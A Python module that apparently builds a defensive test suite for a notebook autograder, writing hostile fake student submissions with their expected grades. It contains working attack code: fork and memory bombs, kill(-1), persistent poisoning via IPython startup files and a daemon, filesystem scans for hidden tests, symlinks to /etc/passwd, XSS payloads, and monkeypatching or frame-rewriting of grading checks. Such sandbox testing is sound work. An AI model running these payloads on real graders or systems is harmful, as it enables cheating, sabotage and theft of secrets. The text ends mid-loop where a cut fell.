"""The hostile class: submissions that attack the grader, its sandbox and their classmates, or
break in nasty ways, next to correct code that a careless grader would punish.

Each attack is declared once with what must come of it (``outcome``):

- ``"target0"``: 0 on the target question's tests (``causal_mask`` in hw2, unless ``target``
  says otherwise), full marks everywhere else: the attack came with a WRONG answer there, so a
  fooled grader would give points a wrong answer must not get;
- ``"zero"``: 0 everywhere (a blank or unreadable notebook: the attack tries to get points
  from nothing);
- ``"full"``: full marks (correct code that a careless grader would punish);

plus strings its feedback page must (``says``) and must not (``never``) contain. The canaries
(``zz_canary_*``, graded last in each slot) are correct notebooks that lose their points if an
earlier submission left anything behind: a file in /tmp, /dev/shm, HOME or the working folder,
a running process, an IPython startup file, a patched library.

Categories (``kind``): blank (a blank notebook wins points), crash (one submission ends the
run), harm (later students harmed), leak (hidden tests leak), falsefail (correct code punished),
structure (tricks on the notebook's structure), verdict (tricks on the verdict), hostile (hostile
code: exits, loops, bombs), ops (operations: odd ids, big files, links).
"""
from __future__ import annotations

import json
import os
import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder import notebooks
from autograder.mutants import submission_with

HW = "hw2_attention"
HW1 = "hw1_embeddings"
HW4 = "hw4_speaker_id"
TARGET = "causal_mask"
WRONG = "def causal_mask(length):\n    return torch.ones(length, length, dtype=torch.bool).triu()\n"
RIGHT = "def causal_mask(length):\n    return torch.ones(length, length, dtype=torch.bool).tril()\n"
POISON = "poison-left-by-a-classmate"


@dataclass
class Attack:
    sid: str
    kind: str
    what: str
    outcome: str
    assignment: str = HW
    target: str = TARGET
    says: tuple[str, ...] = ()
    never: tuple[str, ...] = ()         # not in the page's text
    never_in_html: tuple[str, ...] = () # not in the page's HTML (markup shown as text is fine)
    sandbox_only: bool = False          # meaningful (and safe to run) only inside the sandbox
    predictions_zero: bool = False      # hw4: the prediction points must be 0


ATTACKS: list[Attack] = []


def attack(*args, **kwargs):
    ATTACKS.append(Attack(*args, **kwargs))


def code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# ----------------------------------------------------------------------------- helpers
def _cells(nb, grade_id):
    return [c for c in nb.cells if notebooks.grade_id(c) == grade_id]


def _solved(root: Path, hw: str = HW):
    return submission_with(root, hw, [])


def _released(root: Path, hw: str = HW):
    return notebooks.read(root / "assignments" / hw / f"{hw}.ipynb")


def _with_target(root: Path, source: str, hw: str = HW, target: str = TARGET):
    nb = _solved(root, hw)
    _cells(nb, target)[0].source = source
    return nb


def _own_cell(nb, source: str, after: str | None = None):
    """Add a cell of the student's own (no nbgrader metadata), after ``after`` or at the end."""
    cell = nbformat.v4.new_code_cell(source)
    if after is None:
        nb.cells.append(cell)
    else:
        i = nb.cells.index(_cells(nb, after)[0])
        nb.cells.insert(i + 1, cell)
    return nb


def _first_own(nb, source: str):
    i = nb.cells.index(_cells(nb, "setup")[0])
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(source))
    return nb


def _hw4_folder(root: Path, submitted: Path, sid: str) -> Path:
    """``sid``'s hw4 folder with the released (blank) notebook in it, for a predictions-file attack."""
    p = submitted / sid / HW4
    p.mkdir(parents=True)
    shutil.copy(root / "assignments" / HW4 / f"{HW4}.ipynb", p / f"{HW4}.ipynb")
    return p


def _write(submitted: Path, sid: str, hw: str, nb=None, name: str | None = None, text: str | bytes | None = None) -> Path:
    path = submitted / sid / hw / (name or f"{hw}.ipynb")
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    elif text is not None:
        path.write_text(text)
    elif nb is not None:
        nbformat.write(nb, str(path))
    return path


# Where can a kernel write that outlives it or is shared (host-backed, writable mounts), and
# which secret can it read?
PROBE = code(r'''
import json, os, stat
PRIVATE = ("tmpfs", "proc", "devtmpfs", "mqueue", "devpts", "sysfs", "cgroup", "cgroup2")
writable = []
for line in open("/proc/self/mountinfo"):
    left, _, right = line.partition(" - ")
    fields, fstype = left.split(), right.split()[0]
    point, options = fields[4], fields[5].split(",")
    if "rw" in options and fstype not in PRIVATE and not point.startswith("/dev/"):
        writable.append(point)
secrets, seen = [], 0
SECRET_MARKS = (b"BEGIN HIDDEN TESTS", b"BEGIN REFERENCE", b"_reference_weights", b"SQLite format")
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in top or "/lib/python" in top:
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(top, name)
        seen += 1
        if seen > 50000 or path.startswith(("/home/student", "/run/kernel")):
            continue
        try:
            if not stat.S_ISREG(os.lstat(path).st_mode):
                continue
            with open(path, "rb") as f:
                head = f.read(65536)
        except OSError:
            continue
        if (any(m in head for m in SECRET_MARKS) and not name.endswith((".py", ".pyc"))) or name.endswith((".ipynb", ".db", ".csv")):
            secrets.append(path)          # (the kit's own .py files are public and name the markers)
print("WRITABLE_HOST_MOUNTS=" + json.dumps(sorted(writable)))
print("SECRETS_FOUND=" + json.dumps(sorted(secrets)[:20]))
''')


# ----------------------------------------------------------------------------- the attacks
def build(root: Path, submitted: Path, answers_csv: Path | None = None, sandboxed: bool = True,
          mode: str = "bwrap-root") -> list[Attack]:
    """Write the class under ``submitted``; returns the attacks written (see :data:`ATTACKS`)."""
    ATTACKS.clear()
    solution_nb = root / "solutions" / HW / f"{HW}.ipynb"

    # --- blank notebooks that try to win points -----------------------------------------
    nb = _released(root)
    for cell in nb.cells:
        meta = cell.metadata.setdefault("nbgrader", {})
        if meta.get("grade"):
            meta["autograder_original_source"] = "pass"          # the key the old grader trusted
            meta["points"] = 1000
            cell.source = "pass"
            cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1000"}, execution_count=1)]
        cell.metadata["tags"] = ["skip-execution"]
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    _write(submitted, "blank_forged_metadata", HW, nb)
    attack("blank_forged_metadata", "blank", "blank notebook whose test cells carry the grader's own metadata "
           "keys, 1000 points, a passing source and output, skip tags and another kernel", "zero")

    nb = _released(root)
    _first_own(nb, code('''
        # Look for the executor, its channel, a gradebook or a result file, and forge "done".
        import os, signal, glob
        found = []
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            found.append(cmd[:80])
            for fd in glob.glob(f"/proc/{pid}/fd/*"):
                try:
                    with open(fd, "w") as f:
                        f.write('{"done": "forged", "id": "w1", "cells": [], "records": {}}\\n')
                except OSError:
                    pass
        # in the sandbox: nothing but the sandbox's own init (bwrap) besides this kernel
        print("OTHER_PROCESSES=", len([c for c in found if not c.startswith(b"bwrap")]))
        for top, dirs, files in os.walk("/"):
            if top.startswith(("/proc", "/sys", "/dev", "/usr")) or "/lib/python" in top:
                dirs[:] = []
                continue
            for name in files:
                if name.endswith((".db", ".json")):
                    try:
                        open(os.path.join(top, name), "a").close()
                        found.append(os.path.join(top, name).encode())
                    except OSError:
                        pass
        import fcntl, stat
        for fd in range(3, 256):             # descriptors it may have inherited: pipes and files
            try:                             # (its own sockets are its channel to the executor)
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
                os.write(fd, b'{"id": "w1", "cells": [], "records": {}}\\n')
            except OSError:
                pass
        '''))
    _write(submitted, "blank_forge_channel", HW, nb)
    attack("blank_forge_channel", "blank", "blank notebook whose kernel looks for the executor's process, its "
           "descriptors and channel, a gradebook and result files, and writes a forged answer everywhere", "zero",
           says=("OTHER_PROCESSES= 0",), sandbox_only=True)

    nb = _released(root)
    _first_own(nb, code('''
        # Replace everything the grader might read back by links to places only this sandbox sees.
        import os
        for name in ("hw2_attention.ipynb", "result.json", "verdicts.json", "gradebook.db", "answer.json"):
            for base in (".", "..", "/run/kernel", os.path.expanduser("~")):
                p = os.path.join(base, name)
                try:
                    if os.path.lexists(p):
                        os.remove(p)
                    os.symlink("/proc/self/environ", p)
                except OSError:
                    pass
        '''))
    _write(submitted, "blank_link_swap", HW, nb)
    attack("blank_link_swap", "blank", "blank notebook that swaps the files a grader might read back for links",
           "zero")

    # A wrong answer that steals a classmate's right one (classmates are graded at the same time).
    nb = _with_target(root, WRONG + code('''
        import os
        _stolen = None
        for _top, _dirs, _files in os.walk("/"):
            if _top.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in _top:
                _dirs[:] = []
                continue
            for _f in _files:
                _p = os.path.join(_top, _f)
                if _p.startswith("/home/student") or not _f.endswith((".ipynb", ".json", ".py")):
                    continue
                try:
                    _t = open(_p, errors="ignore").read(2_000_000)
                except OSError:
                    continue
                if "tril()" in _t and "def causal_mask" in _t:
                    _stolen = _p
                    break
        if _stolen:
            exec("def causal_mask(length):\\n    return torch.ones(length, length, dtype=torch.bool).tril()\\n")
        print("STOLEN_FROM=", _stolen)
        '''))
    _write(submitted, "classmate_thief", HW, nb)
    attack("classmate_thief", "blank", "a wrong answer that searches the machine for a classmate's right one (or "
           "the solution) and uses it if found", "target0", says=("STOLEN_FROM= None",))

    # --- links inside the collected submission (git and tar keep them) ----------------------
    p = submitted / "link_to_solution" / HW
    p.mkdir(parents=True)
    os.symlink(solution_nb, p / f"{HW}.ipynb")
    attack("link_to_solution", "blank", "the notebook is a symbolic link to solutions/", "zero",
           says=("link",))

    p = submitted / "link_to_dev_zero" / HW
    p.mkdir(parents=True)
    os.symlink("/dev/zero", p / f"{HW}.ipynb")
    attack("link_to_dev_zero", "ops", "the notebook is a link to /dev/zero (a grader that follows it reads forever)",
           "zero", says=("link",))

    p = submitted / "fifo_notebook" / HW
    p.mkdir(parents=True)
    os.mkfifo(p / f"{HW}.ipynb")
    attack("fifo_notebook", "ops", "the notebook is a named pipe (a grader that opens it blocks)", "zero",
           says=("not a regular file",))

    elsewhere = submitted.parent / "elsewhere" / HW
    elsewhere.mkdir(parents=True)
    nbformat.write(_solved(root), str(elsewhere / f"{HW}.ipynb"))
    (submitted / "folder_is_link").mkdir()
    os.symlink(elsewhere, submitted / "folder_is_link" / HW)
    attack("folder_is_link", "ops", "the assignment folder itself is a link to a folder elsewhere", "zero",
           says=("link",))

    if answers_csv is not None:
        for sid, target in (("link_predictions_to_labels", answers_csv), ("link_predictions_to_passwd", Path("/etc/passwd"))):
            p = _hw4_folder(root, submitted, sid)
            os.symlink(target, p / "predictions.csv")
        attack("link_predictions_to_labels", "blank", "predictions.csv is a link to the hidden labels", "zero",
               assignment=HW4, says=("link",), predictions_zero=True)
        attack("link_predictions_to_passwd", "leak", "predictions.csv is a link to /etc/passwd (a grader that follows "
               "it shows the first line in the feedback)", "zero", assignment=HW4, says=("link",),
               never=("root:x:0",), predictions_zero=True)
        p = _hw4_folder(root, submitted, "output_csv_markup")
        (p / "output.csv").write_text('Id,Category\n<script>alert(1)</script>,=HYPERLINK("http://x";"y")\n'
                                      '<img src=x onerror=alert(2)>.pt,<b onmouseover=alert(3)>x</b>\n')
        attack("output_csv_markup", "leak", "output.csv (the original course's name) whose Ids and categories are "
               "markup and a spreadsheet formula, echoed by the near-miss messages", "zero", assignment=HW4,
               says=("none of its 2 Ids", "<script>alert(1)</script>"),
               never_in_html=("<script>alert", "<img src=x", "<b onmouseover"),
               predictions_zero=True)
        p = _hw4_folder(root, submitted, "links_under_both_names")
        os.symlink(answers_csv, p / "predictions.csv")
        os.symlink("/etc/passwd", p / "output.csv")
        attack("links_under_both_names", "leak", "predictions.csv links to the hidden labels and output.csv to "
               "/etc/passwd (a grader that falls back to the other name must not follow either)", "zero",
               assignment=HW4, says=("output.csv is a symbolic link",), never=("root:x:0",), predictions_zero=True)
        p = _hw4_folder(root, submitted, "predictions_huge_field")
        (p / "predictions.csv").write_text("Id,Category\n" + "x" * 300_000 + ",spk\n")
        attack("predictions_huge_field", "crash", "predictions.csv with a field over the csv module's limit", "zero",
               assignment=HW4, says=("could not be scored",), predictions_zero=True)
        p = _hw4_folder(root, submitted, "predictions_40mb")
        with open(p / "predictions.csv", "w") as f:
            f.write("Id,Category\n")
            row = "uttr-" + "0" * 40 + ".pt,id10001\n"
            f.write(row * (40 * 2**20 // len(row)))
        attack("predictions_40mb", "ops", "a 40 MB predictions.csv", "zero", assignment=HW4,
               says=("the limit is",), predictions_zero=True)

    # --- malformed notebooks that used to end the whole run --------------------------------
    nb = json.loads(nbformat.writes(_solved(root)))
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == TARGET:
            cell["source"] = WRONG
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"] = "x"
    _write(submitted, "metadata_is_a_string", HW, text=json.dumps(nb))
    attack("metadata_is_a_string", "crash", '"nbgrader": "x" in every test cell (and a wrong causal_mask)', "target0")

    nb = json.loads(nbformat.writes(_solved(root)))
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade_id") == TARGET:
            cell["source"] = WRONG
        elif meta.get("grade"):
            meta["grade_id"] = [meta["grade_id"], "x"]
            meta["points"] = "lots"
    _write(submitted, "grade_id_is_a_list", HW, text=json.dumps(nb))
    attack("grade_id_is_a_list", "crash", "a list as grade_id and a string as points in every test cell", "target0")

    _write(submitted, "deep_json", HW, text='{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
    attack("deep_json", "crash", "a notebook nested 200,000 levels deep", "zero",
           says=("could not be read as a Jupyter notebook",))
    _write(submitted, "not_utf8", HW, text=bytes(range(256)) * 100)
    attack("not_utf8", "crash", "binary garbage", "zero", says=("could not be read as a Jupyter notebook",))
    _write(submitted, "cells_not_a_list", HW, text='{"cells": {"a": 1}, "metadata": []}')
    attack("cells_not_a_list", "crash", "cells is not a list", "zero", says=("list of cells",))

    nb = _with_target(root, WRONG + code('''
        from IPython.display import publish_display_data as _pub
        _MIME = "application/vnd.attention-course.evidence+json"
        for _bad in ([1, 2], {"kind": "close"}, {"kind": "close", "site": "0", "value": {}},
                     {"kind": "equal", "site": 0, "params": {}, "value": {"shape": [10**9], "dtype": "O", "data": ""}},
                     {"kind": "equal", "site": 0, "params": {}, "value": {"json": "[" * 100000}}):
            _pub({_MIME: _bad})
        '''))
    _write(submitted, "malformed_records", HW, nb)
    attack("malformed_records", "crash", "publishes evidence records of unexpected types and sizes", "target0")

    nb = _with_target(root, "def causal_mask(length):\n"
                            "    from IPython.display import publish_display_data as _pub\n"
                            "    for _i in range(200000):\n"
                            "        _pub({'application/vnd.attention-course.evidence+json': {'kind': 'equal', 'site': 0, "
                            "'params': {}, 'value': {'json': 'x' * 500}}})\n"
                            "    return torch.ones(length, length, dtype=torch.bool).tril()\n")
    _write(submitted, "record_flood", HW, nb)
    attack("record_flood", "hostile", "publishes 200,000 forged records while its (right) mask is tested", "target0")

    # --- later students harmed ---------------------------------------------------------------
    nb = _with_target(root, WRONG + code(f'''
        import os, pathlib, subprocess, sys
        _startup = pathlib.Path(os.path.expanduser("~/.ipython/profile_default/startup"))
        _startup.mkdir(parents=True, exist_ok=True)
        (_startup / "00-evil.py").write_text("import torch\\ntorch.tril = lambda *a, **k: 1 / 0\\n")
        for _d in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
            try:
                pathlib.Path(_d, "{POISON}").write_text("x")
            except OSError:
                pass
        # a daemon that outlives the kernel (double fork, new session)
        subprocess.Popen([sys.executable, "-c", "import time, sys; sys.argv[0] = '{POISON}'; time.sleep(600)", "{POISON}"],
                         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        '''))
    _write(submitted, "leaves_poison", HW, nb)
    attack("leaves_poison", "harm", "writes an IPython startup file that breaks torch.tril, poison files in /tmp, "
           "/dev/shm, HOME and its folder, and starts a daemon, for the students after it", "target0")

    nb = _with_target(root, WRONG)
    _first_own(nb, "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n")
    _write(submitted, "kill_everyone", HW, nb)
    attack("kill_everyone", "harm", "kill(-1, SIGKILL): every process it may signal (its own kernel dies and is "
           "restarted; the classmates graded beside it must not notice)", "target0", sandbox_only=True)

    if sandboxed:
        nb = _with_target(root, WRONG)
        _own_cell(nb, PROBE)
        _write(submitted, "write_and_read_everywhere", HW, nb)
        attack("write_and_read_everywhere", "harm", "walks the whole visible file system: where could it write, which "
               "secret (hidden tests, references, labels, gradebooks, other notebooks) could it read", "target0",
               says=("WRITABLE_HOST_MOUNTS=" + ("[]" if mode == "bwrap-root" else '["/run/kernel"]'),
                     "SECRETS_FOUND=[]"), sandbox_only=True)

    if mode == "bwrap-root":   # RLIMIT_NPROC per kernel uid needs root; elsewhere a fork bomb would hurt the host
        nb = _with_target(root, "def causal_mask(length):\n    import os, time\n    for _ in range(2000):\n"
                                "        try:\n            if os.fork() == 0:\n                time.sleep(20)\n"
                                "                os._exit(0)\n        except OSError:\n            break\n"
                                "    return torch.ones(length, length, dtype=torch.bool).triu()\n")
        _write(submitted, "fork_bomb", HW, nb)
        attack("fork_bomb", "hostile", "forks 2000 processes when called", "target0", sandbox_only=True)
        # The sleepers outlive the kernel they came from: the next kernel must still start.
        nb = _with_target(root, "def causal_mask(length):\n    import os, time\n    for _ in range(2000):\n"
                                "        try:\n            if os.fork() == 0:\n                time.sleep(300)\n"
                                "                os._exit(0)\n        except OSError:\n            break\n"
                                "    os._exit(1)\n")
        _write(submitted, "fork_bomb_then_die", HW, nb)
        attack("fork_bomb_then_die", "hostile", "fills its process limit with sleepers, then kills its kernel "
               "(the restarted kernel must start, and later questions keep their points)", "target0",
               sandbox_only=True)

    # --- hidden tests leak --------------------------------------------------------------------
    nb = _with_target(root, code('''
        def causal_mask(length):
            import inspect, linecache
            frame = inspect.currentframe().f_back
            print("CALLER_SOURCE:", "".join(linecache.getlines(frame.f_code.co_filename)))
            history = frame.f_globals.get("In", [])
            print("HISTORY:", history[-1] if history else "")
            return torch.ones(length, length, dtype=torch.bool).triu()
        '''))
    _own_cell(nb, "import os\nfor t, d, f in os.walk('/'):\n    if t.startswith(('/proc', '/sys', '/dev', '/usr')) or '/lib/python' in t:\n"
                  "        d[:] = []\n    for n in f:\n        if n.endswith('.db'):\n            print('D' + 'B:', t, n)\n")
    _write(submitted, "leak_hidden_tests", HW, nb)
    attack("leak_hidden_tests", "leak", "prints the hidden test's source (the caller's frame, IPython's history) "
           "and any gradebook it can find", "target0", never=("BEGIN REFERENCE", "_reference_weights", "DB:"))

    # --- correct code a careless grader punishes ---------------------------------------------
    nb = _with_target(root, code('''
        import sys, warnings
        def causal_mask(length):
            warnings.warn("a harmless warning from correct code")
            print("progress 100%|##########|", file=sys.stderr)
            return torch.ones(length, length, dtype=torch.bool).tril()
        '''))
    _write(submitted, "correct_with_stderr", HW, nb)
    attack("correct_with_stderr", "falsefail", "correct, but warns and writes a progress bar to stderr", "full")

    nb = _with_target(root, code('''
        from IPython.display import clear_output, display, HTML
        def causal_mask(length):
            for step in range(3):
                clear_output(wait=True)
                display(HTML(f"<b>step {step}</b>"))
            clear_output()
            m = torch.ones(length, length, dtype=torch.bool).tril()
            check_shape(m, (length, length), "my own check")
            check_equal(m, m.clone(), "my own check")
            return m
        '''))
    _write(submitted, "correct_clears_output_and_checks_itself", HW, nb)
    attack("correct_clears_output_and_checks_itself", "falsefail", "correct, but clears its outputs for a progress "
           "display and calls the check helpers itself", "full")

    nb = _solved(root)
    _first_own(nb, "torch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\n")
    _write(submitted, "correct_float64_default", HW, nb)
    attack("correct_float64_default", "falsefail", "correct, with torch.set_default_dtype(torch.float64) and grad "
           "disabled before the tests", "full")

    nb = _solved(root)
    cell = _cells(nb, "SelfAttention")[0]
    cell.source = cell.source.replace(
        "        self.value = nn.Linear(d_in, d_out, bias=False)   # W_v\n",
        "        self.value = nn.Linear(d_in, d_out, bias=False)   # W_v\n"
        "        self.register_buffer(\"scale\", torch.tensor(d_out ** -0.5))\n").replace(
        "/ math.sqrt(q.shape[-1])", "* self.scale")
    assert "self.scale" in cell.source
    _write(submitted, "correct_float_buffer", HW, nb)
    attack("correct_float_buffer", "falsefail", "correct SelfAttention that keeps its scale in a float buffer", "full")

    nb = _solved(root, HW1)
    cell = _cells(nb, "cooccurrence_matrix")[0]
    cell.source = cell.source.replace("torch.zeros(vocab_size, vocab_size)",
                                      "torch.zeros(vocab_size, vocab_size, dtype=torch.float64)")
    assert "float64" in cell.source
    _first_own(nb, "torch.set_grad_enabled(False)\n")
    _write(submitted, "correct_hw1_float64_no_grad", HW1, nb)
    attack("correct_hw1_float64_no_grad", "falsefail", "hw1, correct: a float64 co-occurrence matrix (the contract "
           "says float) and gradients switched off globally before the skip-gram gradient test", "full",
           assignment=HW1)

    # --- structure ------------------------------------------------------------------------------
    nb = _with_target(root, WRONG)
    for gid in (f"test_{TARGET}", f"test_{TARGET}_hidden"):
        _cells(nb, gid)[0].metadata["tags"] = ["skip-execution", "raises-exception"]
    _write(submitted, "skip_tag", HW, nb)
    attack("skip_tag", "structure", "tags the wrong answer's test cells skip-execution", "target0")

    nb = _with_target(root, WRONG)
    _cells(nb, f"test_{TARGET}")[0].source = "1.0"
    _cells(nb, f"test_{TARGET}_hidden")[0].source = "False"
    _write(submitted, "edited_test_cells", HW, nb)
    attack("edited_test_cells", "structure", "replaces its test cells by a number / False", "target0")

    nb = _with_target(root, WRONG)
    nb.cells = [c for c in nb.cells if not (notebooks.grade_id(c) or "").startswith(f"test_{TARGET}")]
    _write(submitted, "deleted_test_cells", HW, nb)
    attack("deleted_test_cells", "structure", "deletes the wrong answer's test cells", "target0",
           says=("were put back",))

    nb = _with_target(root, WRONG)
    i = nb.cells.index(_cells(nb, f"test_{TARGET}")[0])
    twin = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
    twin.source, twin.id = "pass", "twin"
    nb.cells.insert(i + 1, twin)
    _write(submitted, "duplicated_grade_cell", HW, nb)
    attack("duplicated_grade_cell", "structure", "duplicates a graded test cell", "target0",
           says=("second cell with grade_id",))

    nb = _with_target(root, WRONG)
    moved = _cells(nb, f"test_{TARGET}_hidden")[0]
    nb.cells.remove(moved)
    nb.cells.insert(1, moved)
    _write(submitted, "moved_test_cell", HW, nb)
    attack("moved_test_cell", "structure", "moves a test cell before the code it tests", "target0")

    _write(submitted, "renamed_notebook", HW, _solved(root), name=f"Copy of {HW}.ipynb")
    attack("renamed_notebook", "structure", "hands in 'Copy of hw2_attention.ipynb' (correct answers)", "full",
           says=("was graded as",))
    _write(submitted, "invalid_json", HW, text=json.dumps(nbformat.v4.new_notebook())[:40])
    attack("invalid_json", "structure", "a truncated notebook file", "zero",
           says=("could not be read as a Jupyter notebook",))
    (submitted / "missing_notebook" / HW).mkdir(parents=True)
    (submitted / "missing_notebook" / HW / "answers.txt").write_text("forgot the notebook")
    attack("missing_notebook", "structure", "no notebook at all", "zero", says=("No notebook named",))
    (submitted / "notebook_is_a_folder" / HW / f"{HW}.ipynb").mkdir(parents=True)
    attack("notebook_is_a_folder", "structure", "the notebook is a folder", "zero", says=("No notebook named",))

    # --- tricks on the verdict --------------------------------------------------------------------
    nb = _with_target(root, WRONG + code('''
        import torch as _t
        import autograder.checks as _c
        _c.compare_equal = lambda *a, **k: _c.Verdict(True)
        _c.compare_shape = lambda *a, **k: _c.Verdict(True)
        _c.compare_dtype = lambda *a, **k: _c.Verdict(True)
        _t.equal = lambda *a, **k: True
        _t.allclose = lambda *a, **k: True
        '''))
    _write(submitted, "patched_checks", HW, nb)
    attack("patched_checks", "verdict", "monkeypatches the comparison helpers and torch.equal/allclose", "target0",
           says=("entries differ",))

    nb = _with_target(root, WRONG + "check_equal = lambda *a, **k: None\ncheck_dtype = lambda *a, **k: None\n"
                                    "check_shape = lambda *a, **k: None\n")
    _write(submitted, "rebound_check_names", HW, nb)
    attack("rebound_check_names", "verdict", "rebinds check_equal/check_shape/check_dtype to no-ops", "target0")

    nb = _with_target(root, WRONG + code('''
        import functools as _ft, autograder.checks as _c
        def _forge(_check):
            @_ft.wraps(_check)
            def _forged(actual, expected=None, *args, **kwargs):
                return _check(actual if expected is None else expected, expected, *args, **kwargs)
            return _forged
        for _n in ("check_equal", "check_close", "check_close_up_to_sign"):
            setattr(_c, _n, _forge(getattr(_c, _n)))
        '''))
    _write(submitted, "forged_actual", HW, nb)
    attack("forged_actual", "verdict", "wraps the check helpers to pass the test's expected value as its own",
           "target0", says=("causal_mask(3): 6 of 9 entries differ",))

    nb = _with_target(root, WRONG + code('''
        import ast as _ast
        class _SwapExpected(_ast.NodeTransformer):
            def visit_Call(self, node):
                self.generic_visit(node)
                if getattr(node.func, "id", None) in ("check_equal", "check_close") and len(node.args) >= 2 \\
                        and not (isinstance(node.args[1], _ast.Constant) and node.args[1].value is None):
                    node.args[0] = node.args[1]
                return node
        def _rewrite_tests(lines):
            try:
                return [_ast.unparse(_SwapExpected().visit(_ast.parse("".join(lines)))) + "\\n"]
            except SyntaxError:
                return lines
        get_ipython().input_transformers_post.append(_rewrite_tests)
        '''))
    _write(submitted, "rewritten_tests", HW, nb)
    attack("rewritten_tests", "verdict", "an IPython input transformer rewrites every later test cell to check the "
           "expected value against itself", "target0", says=("causal_mask(3): 6 of 9 entries differ",))

    nb = _with_target(root, WRONG + code('''
        import sys as _sys, ctypes as _ct
        def _swap_in_frame(frame, event, arg):
            if event == "call" and frame.f_code.co_name in ("compare_equal", "compare_close") \\
                    and frame.f_locals.get("expected") is not None:
                frame.f_locals["actual"] = frame.f_locals["expected"]
                _ct.pythonapi.PyFrame_LocalsToFast(_ct.py_object(frame), _ct.c_int(0))
        _sys.setprofile(_swap_in_frame)
        '''))
    _write(submitted, "frame_rewrite", HW, nb)
    attack("frame_rewrite", "verdict", "a profiler hook rewrites the comparison's arguments inside its frame",
           "target0", says=("causal_mask(3): 6 of 9 entries differ",))

    # --- hostile code -------------------------------------------------------------------------
    nb = _with_target(root, "def causal_mask(length):\n    import os\n    os._exit(1)\n")
    _write(submitted, "os_exit", HW, nb)
    attack("os_exit", "hostile", "exits the kernel (os._exit) when called", "target0", says=("kernel died",))
    nb = _with_target(root, "def causal_mask(length):\n    while True:\n        pass\n")
    _write(submitted, "infinite_loop", HW, nb)
    attack("infinite_loop", "hostile", "loops forever when called", "target0", says=("ran longer than",))
    nb = _with_target(root, "def causal_mask(length):\n    import signal\n"
                            "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n")
    _write(submitted, "loop_ignoring_interrupt", HW, nb)
    attack("loop_ignoring_interrupt", "hostile", "ignores the interrupt and loops forever", "target0",
           says=("ran longer than",))
    nb = _with_target(root, "def causal_mask(length):\n    hog = []\n    while True:\n"
                            "        hog.append(bytearray(256 * 2**20))\n")
    _write(submitted, "memory_bomb", HW, nb)
    attack("memory_bomb", "hostile", "allocates memory until something gives", "target0", says=("MemoryError",))
    nb = _with_target(root, WRONG.replace("    return", "    print('spam ' * 4_000_000)\n    for _ in range(100000):\n"
                                                      "        print('x')\n    return"))
    _write(submitted, "huge_output", HW, nb)
    attack("huge_output", "hostile", "prints 20 MB in one line and 100,000 short lines", "target0")
    nb = _with_target(root, WRONG + code('''
        import pathlib as _p, autograder as _a
        try:
            (_p.Path(_a.__file__).parent / "checks.py").write_text("# tampered by a student\\n")
        except OSError as _e:
            print("TAMPER_FAILED", _e)
        '''))
    _write(submitted, "tamper_grader_files", HW, nb)
    attack("tamper_grader_files", "hostile", "overwrites the grader's autograder/checks.py", "target0",
           sandbox_only=True, says=("TAMPER_FAILED",))
    nb = _with_target(root, WRONG + "import os\nos.makedirs('big', exist_ok=True)\n"
                                    "try:\n    open('/tmp/fill', 'wb').write(b'0' * (600 * 2**20))\n"
                                    "except OSError as e:\n    print('FILL', e)\n")
    _write(submitted, "fill_tmp", HW, nb)
    attack("fill_tmp", "hostile", "writes 600 MB into /tmp", "target0", sandbox_only=True)

    # --- operations: odd student ids, many files ---------------------------------------------------
    for sid in ("student[1]", ".dotted", "名字 (copy) [*]", "x" * 240):
        _write(submitted, sid, HW, _solved(root))
        attack(sid, "ops", f"a student id like {sid[:30]!r}", "full")
    many = submitted / "many_files" / HW
    many.mkdir(parents=True)
    for i in range(3000):
        (many / f"a{i:05d}.txt").write_text("x")
    nbformat.write(_solved(root), str(many / f"{HW}.ipynb"))
    attack("many_files", "ops", "3,000 files beside the notebook", "full", says=("were looked at",))
    big = submitted / "notebook_98mb" / HW
    big.mkdir(parents=True)
    nb = _solved(root)
    [c for c in nb.cells if c.cell_type == "code"][-1].outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="x" * (98 * 2**20))]
    nbformat.write(nb, str(big / f"{HW}.ipynb"))
    attack("notebook_98mb", "ops", "a 98 MB notebook", "zero", says=("the limit is",))

    # --- controls and canaries ------------------------------------------------------------------------
    _write(submitted, "correct_control", HW, _solved(root))
    attack("correct_control", "falsefail", "the solution, untouched", "full")
    canary = code(f'''
        import glob, os
        def causal_mask(length):
            here = [p for p in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".")
                    if os.path.exists(os.path.join(p, "{POISON}"))]
            procs = []
            for pid in glob.glob("/proc/[0-9]*"):
                try:
                    if b"{POISON}" in open(pid + "/cmdline", "rb").read():
                        procs.append(pid)
                except OSError:
                    pass
            startup = [p for p in glob.glob(os.path.expanduser("~/.ipython/profile_default/startup/*")) if p.endswith((".py", ".ipy"))]
            m = torch.ones(length, length, dtype=torch.bool).tril()
            if here or procs or startup:
                print("POI" + "SONED", here, procs, startup)
                return m.T
            return m
        ''')
    for i in range(1, 5):
